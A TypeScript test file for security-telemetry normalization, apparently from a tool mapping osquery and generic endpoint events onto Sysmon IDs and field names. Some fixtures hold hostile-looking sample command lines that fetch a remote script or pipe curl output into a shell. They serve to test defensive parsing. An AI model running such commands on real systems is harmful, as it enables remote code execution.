import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { NormalizedEvent } from '../../domain/event';
import { normalizeGeneric } from './generic-event';
import { normalizeRecord, normalizeRecords } from './normalize-record';
import { FIXTURES, readFile } from './test-support';

describe('osquery results', async () => {
  const s = await readFile(path.join(FIXTURES, 'osquery.jsonl'));

  it('maps evented tables to Sysmon ids with Sysmon field names', () => {
    expect(s.rejected).toEqual([]);
    for (const e of s.events) NormalizedEvent.parse(e);
    const [exec, connect, accept, created, deleted] = s.events;
    expect(exec).toMatchObject({
      source: 'osquery',
      channel: 'osquery',
      eventId: 1,
      host: 'web-01',
      time: 1600171199000,
    });
    expect(exec!.fields).toMatchObject({
      ProcessId: '4242',
      ParentProcessId: '1000',
      Image: '/usr/bin/curl',
      CommandLine: 'curl -s http://10.0.0.5/x.sh',
      CurrentDirectory: '/tmp',
      User: 'uid:1000',
      UtcTime: '2020-09-15 11:59:59.000',
    });
    expect(exec!.fields).not.toHaveProperty('ProcessGuid');
    expect(connect).toMatchObject({ eventId: 3 });
    expect(connect!.fields).toMatchObject({
      Initiated: 'true',
      Protocol: 'tcp',
      SourceIp: '10.0.0.9',
      SourcePort: '51234',
      DestinationIp: '10.0.0.5',
      DestinationPort: '80',
      SourceIsIpv6: 'false',
    });
    // Inbound: Sysmon's Source is the remote side that opened the connection.
    expect(accept!.fields).toMatchObject({
      Initiated: 'false',
      SourceIp: 'fe80::2',
      DestinationPort: '22',
      DestinationIsIpv6: 'true',
    });
    expect(created).toMatchObject({ eventId: 11 });
    expect(created!.fields).toMatchObject({
      TargetFilename: '/tmp/x.sh',
      Hashes: 'MD5=D41D8CD98F00B204E9800998ECF8427E',
    });
    expect(deleted).toMatchObject({ eventId: 23 });
  });

  it('skips binds and file reads, and expands diffResults batches row by row', () => {
    expect(s.skipped.get('osquery:socket_events:bind')).toBe(1);
    expect(s.skipped.get('osquery:file_events:ACCESSED')).toBe(1);
    const batch = s.events.slice(5);
    expect(batch.map((e) => [e.eventId, e.host, e.fields.ProcessId])).toEqual([
      [1, 'win-07', '5000'],
      [5, 'win-07', '3000'],
    ]);
    expect(batch[0]!.time).toBe(1600171290000);
    // Both rows come from line 8.
    expect(s.outcomes.filter((o) => o.recordNo === 8)).toHaveLength(2);
  });

  it('tells the caller to expand a batch handed to normalizeRecord', () => {
    const batch = {
      name: 'processes',
      hostIdentifier: 'h',
      unixTime: 1,
      snapshot: [
        { pid: '1', path: '/a' },
        { pid: '2', path: '/b' },
      ],
    };
    expect(normalizeRecord(batch)).toMatchObject({ kind: 'rejected' });
    expect(normalizeRecords(batch).map((r) => r.kind)).toEqual(['event', 'event']);
  });

  it('rejects rows without host or time', () => {
    expect(normalizeRecord({ name: 'process_events', columns: { pid: '1' } })).toMatchObject({
      kind: 'rejected',
    });
    expect(
      normalizeRecord({ name: 'process_events', hostIdentifier: 'h', columns: { pid: '1', cmdline: 'x' } }),
    ).toMatchObject({
      kind: 'rejected',
      reason: expect.stringMatching(/^missing time/),
    });
  });

  it('rejects epoch seconds past the Date range instead of throwing (found by fuzz.test.ts)', () => {
    const row = { name: 'process_events', hostIdentifier: 'h', unixTime: 1e300 };
    expect(normalizeRecord({ ...row, columns: { pid: '1', cmdline: 'x', time: '1e300' } })).toMatchObject({
      kind: 'rejected',
      reason: expect.stringMatching(/^missing time/),
    });
    expect(
      normalizeRecord({ ...row, columns: { pid: '1', cmdline: 'x', time: '99999999999999' } }),
    ).toMatchObject({
      kind: 'rejected',
    });
  });

  it('maps Windows ETW and macOS EndpointSecurity process events', () => {
    const etw = normalizeRecord({
      name: 'process_etw_events',
      hostIdentifier: 'w',
      unixTime: 1700000000,
      columns: { type: 'ProcessStop', pid: '10', path: 'C:\\a.exe', username: 'CORP\\bob' },
    });
    expect(etw).toMatchObject({
      kind: 'event',
      event: { eventId: 5, fields: { ProcessId: '10', User: 'CORP\\bob' } },
    });
    const fork = normalizeRecord({
      name: 'es_process_events',
      hostIdentifier: 'm',
      unixTime: 1700000000,
      columns: { event_type: 'fork', pid: '1' },
    });
    expect(fork).toEqual({ kind: 'skipped', type: 'osquery:es_process_events:fork' });
  });
});

describe('generic event format', async () => {
  const s = await readFile(path.join(FIXTURES, 'generic.jsonl'));

  it('maps every type to its Sysmon id', () => {
    expect(s.rejected).toEqual([]);
    for (const e of s.events) NormalizedEvent.parse(e);
    expect(s.events.map((e) => [e.source, e.channel, e.eventId])).toEqual([
      ['generic', 'lensgraph/generic', 1],
      ['generic', 'lensgraph/generic', 5],
      ['generic', 'lensgraph/generic', 11],
      ['generic', 'lensgraph/generic', 11],
      ['generic', 'lensgraph/generic', 23],
      ['generic', 'lensgraph/generic', 3],
      ['generic', 'lensgraph/generic', 3],
    ]);
    expect(s.skipped.get('lensgraph/generic:file_read')).toBe(1);
  });

  it('uses Sysmon field names and both time forms', () => {
    const [start, stop, , write, , out, inbound] = s.events;
    expect(start!.fields).toEqual({
      ProcessId: '4242',
      ParentProcessId: '1',
      Image: '/bin/zsh',
      CommandLine: "zsh -c 'curl http://x | sh'",
      User: 'alice',
      ParentImage: '/sbin/launchd',
      CurrentDirectory: '/Users/alice',
      UtcTime: '2024-05-01 10:00:00.123',
    });
    expect(start!.time).toBe(Date.UTC(2024, 4, 1, 10, 0, 0, 123));
    expect(stop!.time).toBe(1714557605000);
    expect(write!.time).toBe(Date.UTC(2024, 4, 1, 8, 0, 2));
    expect(out!.fields).toMatchObject({
      Initiated: 'true',
      Protocol: 'tcp',
      SourceIp: '192.168.1.10',
      DestinationIp: '203.0.113.7',
      DestinationPort: '443',
    });
    expect(inbound!.fields).toMatchObject({
      Initiated: 'false',
      SourceIp: '203.0.113.9',
      DestinationIp: '192.168.1.10',
      DestinationPort: '22',
    });
  });

  it.each([
    [{ type: 'process_start', host: 'h', time: '2024-01-01T00:00:00Z', image: '/a' }, 'missing field: pid'],
    [
      { type: 'process_start', host: 'h', time: '2024-01-01T00:00:00Z', pid: 'abc', image: '/a' },
      'invalid field: pid',
    ],
    [
      { type: 'process_start', host: 'h', time: '2024-01-01T00:00:00Z', pid: -1, image: '/a' },
      'invalid field: pid',
    ],
    [{ type: 'file_create', host: 'h', time: '2024-01-01T00:00:00Z' }, 'missing field: path'],
    [{ type: 'file_create', host: 'h', time: 1700000000, path: '/x' }, 'invalid time'],
    [{ type: 'file_create', host: 'h', time: 'noon', path: '/x' }, 'invalid time'],
    // Past the Date range: used to throw a RangeError out of the parser (found by fuzz.test.ts).
    [{ type: 'file_create', host: 'h', time: 1e300, path: '/x' }, 'invalid time'],
    [{ type: 'file_create', host: 'h', time: 8.64e15 + 1, path: '/x' }, 'invalid time'],
    [{ type: 'file_create', host: '', time: '2024-01-01T00:00:00Z', path: '/x' }, 'missing host'],
    [
      {
        type: 'connection_outbound',
        host: 'h',
        time: '2024-01-01T00:00:00Z',
        remote_ip: '1.2.3.4',
        remote_port: 70000,
      },
      'invalid field: remote_port',
    ],
  ])('rejects %j (%s)', (record, prefix) => {
    const r = normalizeGeneric(record);
    expect(r.kind).toBe('rejected');
    if (r.kind === 'rejected') expect(r.reason.startsWith(prefix)).toBe(true);
  });

  it('skips unknown types instead of failing, and is not fooled by prototype names', () => {
    expect(normalizeRecord({ type: 'registry_set', host: 'h', time: '2024-01-01T00:00:00Z' })).toEqual({
      kind: 'skipped',
      type: 'lensgraph/generic:registry_set',
    });
    expect(normalizeRecord({ type: 'constructor', host: 'h', time: '2024-01-01T00:00:00Z' })).toMatchObject({
      kind: 'skipped',
    });
  });
});
